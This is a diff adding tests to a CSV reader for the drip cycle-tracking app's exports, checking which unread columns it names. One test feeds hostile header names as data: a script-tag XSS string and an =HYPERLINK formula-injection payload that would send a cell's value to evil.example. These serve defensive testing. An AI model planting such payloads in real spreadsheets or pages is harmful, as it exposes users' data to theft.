@@ -132,6 +132,8 @@ describe('reading drip’s CSV', () => {
   it('reads a subset of drip’s columns in any order, and the older isCycleStart column', () => {
     const file = read('bleeding.value,isCycleStart,date\r\n2,true,2026-10-01\r\n2,false,2026-10-02\r\n')
     expect(file.periods).toEqual([{ start: '2026-10-01', end: '2026-10-02', excluded: false }])
+    // drip sets isCycleStart itself from the bleeding days: not named as a column not read.
+    expect(file.unread).toBeUndefined()
   })
 
   it('reads quoted fields, with commas, doubled quotes and line breaks, numbering lines as the file does', () => {
@@ -232,6 +234,34 @@ describe('a CSV refused whole, nothing read', () => {
     )
     expect(file.days).toEqual([{ date: '2026-10-01', temperature: { hundredths: 3650, disturbed: false } }])
     expect(file.rejected).toEqual([])
+  })
+
+  it('names the columns it does not read that hold something in a row, drip’s or others (decision 073)', () => {
+    const file = read(
+      [
+        `${HEADER},bleeding.spotting,later.empty`,
+        `${row({ date: '2026-10-01', 'bleeding.value': '2', 'bleeding.exclude': 'false', 'pain.cramps': 'true', 'sex.solo': 'false', 'cervix.opening': '0', 'cervix.exclude': 'false', 'mood.note': 'tired' })},true,`,
+        `${row({ date: '2026-10-02', 'temperature.value': '36.5', 'temperature.note': 'late', 'desire.value': '2', 'sex.condom': 'FALSE', 'note.value': 'ok' })},,`,
+      ].join('\n'),
+    )
+    expect(file.days).toHaveLength(2)
+    // Read columns, empty ones and drip's "false" (what was not logged) are not named.
+    expect(file.unread).toEqual({
+      names: ['temperature.note', 'desire.value', 'pain.cramps', 'mood.note', 'bleeding.spotting'],
+      more: 0,
+    })
+    expect(read(`${HEADER}\n${row({ date: '2026-10-01', 'bleeding.value': '1' })}\n`).unread).toBeUndefined()
+    // A quoted name with a line break, markup or a formula is named as the text it is, cleaned.
+    const hostile = read(
+      [
+        'date,bleeding.value,"Pain\r\nlevel","<script>alert(1)</script>","=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"',
+        '2026-10-01,2,3,x,y',
+      ].join('\n'),
+    )
+    expect(hostile.unread).toEqual({
+      names: ['Pain level', '<script>alert(1)</script>', '=HYPERLINK("http://evil.example/?x="&A1…'],
+      more: 0,
+    })
   })
 
   it('refuses text that is not UTF-8: replacement characters, UTF-16, NUL bytes', () => {
@@ -464,6 +494,8 @@ describe('round trip: the log, drip’s CSV, the log', () => {
         expect(text.split(/[\n,]/).filter(isFormulaCell)).toEqual([])
         const file = read(text)
         expect(file.rejectedCount).toBe(0)
+        // Our own export names no column as not read: its `cervix.exclude` is only ever "false".
+        expect(file.unread).toBeUndefined()
         const { periods: heldPeriods, days: heldDays } = asDripHolds(periods, days)
         // A merged run longer than a period can be keeps its first day only, as the reader must.
         expect(file.periods).toEqual(
